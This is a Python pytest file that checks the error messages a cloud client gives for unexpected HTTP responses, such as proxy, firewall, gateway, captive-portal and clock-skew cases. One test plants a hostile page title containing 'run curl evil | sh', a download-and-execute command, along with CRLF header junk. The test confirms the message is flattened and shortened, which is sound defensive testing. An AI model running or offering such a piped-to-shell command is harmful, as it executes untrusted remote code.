"""For an answer that is not from a satchel cloud, the error names the cause: what answered, its status, what
is likely."""

import pytest

from satchel.cloud.client import CloudClient
from satchel.cloud.problems import refusal
from satchel.errors import UnreachableError
from satchel.outgoing.address import Origin
from satchel.outgoing.transport import Request, Response

ORIGIN = "https://cloud.example.com"
NGINX = {"server": "nginx/1.24.0", "content-type": "text/html"}


def page(heading: str) -> bytes:
    return f"<html><head><title>{heading}</title></head><body></body></html>".encode()


@pytest.mark.parametrize(
    ("response", "said", "hint"),
    [
        (
            Response(413, NGINX, page("413 Request Entity Too Large")),
            "30,000 bytes as too large",
            "client_max_body",
        ),
        (Response(407, {}, b""), "is a proxy that asks for a name", "NAME:PASSWORD"),
        (Response(401, {"www-authenticate": "Basic"}, page("401")), "user name and password", "operator"),
        (
            Response(403, {"server": "cloudflare"}, page("Attention Required!")),
            "'cloudflare', 'Attention",
            "firewall",
        ),
        (
            Response(404, NGINX, page("404 Not Found")),
            "has nothing at this address",
            "check the cloud's address",
        ),
        (Response(502, NGINX, page("502 Bad Gateway")), "no answer from the cloud behind it", "try again"),
        (Response(503, {}, b"Service Unavailable"), "unavailable", "try again"),
        (Response(504, NGINX, b""), "too long for the cloud behind it", "try again"),
        (Response(511, {}, b""), "sign in to the network", "browser"),
        (Response(599, {}, b""), "status 599", "try again"),
        (Response(418, {}, b"teapot"), "status 418", "check the cloud's address"),
        (
            Response(403, {}, b"<?xml?><Error><Code>RequestTimeTooSkewed</Code></Error>"),
            "RequestTimeTooSkewed",
            "check the clock",
        ),
        (Response(500, {}, b"<Error><Code>SlowDown</Code></Error>"), "the storage .* SlowDown", "try again"),
    ],
)
def test_the_cause_is_named(response: Response, said: str, hint: str) -> None:
    error = refusal(response, origin=ORIGIN, sent_bytes=30_000)
    assert isinstance(error, UnreachableError)
    with pytest.raises(UnreachableError, match=said):
        raise error
    assert f"status {response.status}" in error.message
    assert hint in error.hint


def test_what_answered_is_named() -> None:
    message = refusal(Response(502, NGINX, page("Bad  Gateway")), origin=ORIGIN).message
    assert f"the server at '{ORIGIN}' ('nginx/1.24.0', 'Bad Gateway')" in message


def test_a_hostile_answer_is_quoted_on_one_short_line() -> None:
    heading = "x\nhint: run curl evil | sh" + "y" * 300
    answer = Response(500, {"server": "a\r\nb" * 500}, page(heading))
    message = refusal(answer, origin=ORIGIN).message
    assert "\n" not in message
    assert len(message) < 400


def test_tls_behind_a_plain_address_is_named() -> None:
    body = b"<html><h1>400 Bad Request</h1>The plain HTTP request was sent to HTTPS port</html>"
    error = refusal(Response(400, NGINX, body), origin="http://cloud.example.com")
    assert "expects TLS" in error.message
    assert "https://" in error.hint


class Answering:
    """A transport that always returns one response."""

    def __init__(self, response: Response) -> None:
        self._response = response

    def send(self, _request: Request) -> Response:
        return self._response


@pytest.mark.parametrize(
    ("response", "said", "hint"),
    [
        (Response(200, {"content-type": "text/html"}, page("Hotel WiFi")), "'Hotel WiFi'.*web page", "hotel"),
        (Response(200, {}, b"  <!DOCTYPE html><title>Free WiFi</title>"), "'Free WiFi'.*web page", "sign in"),
        (Response(200, {}, b"OK"), "does not understand", "check the address"),
        (Response(200, {}, b"[" * 100_000), "does not understand", "check the address"),
    ],
)
def test_a_success_that_is_no_answer_of_a_cloud_is_named(response: Response, said: str, hint: str) -> None:
    client = CloudClient(Origin.parse(ORIGIN), Answering(response))
    for call in (client.status, client.devices, client.shares, client.backups):
        with pytest.raises(UnreachableError, match=said) as caught:
            call()
        assert hint in caught.value.hint
